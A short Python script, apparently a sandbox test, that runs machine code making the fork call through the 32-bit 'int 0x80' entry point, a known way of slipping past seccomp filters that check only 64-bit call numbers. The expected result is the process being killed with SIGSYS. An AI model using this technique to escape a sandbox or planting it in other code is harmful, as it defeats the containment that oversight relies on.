"""Calls the kernel as a program of 32 bits would, whose calls have other numbers than those the filter knows."""

import ctypes
import mmap

# reads "The process was ended by a forbidden system call (SIGSYS)."

code = bytes.fromhex("b8 02000000 cd80 c3")  # mov eax, 2 (fork, there); int 0x80; ret
page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
print("SAW: the kernel's other door", flush=True)
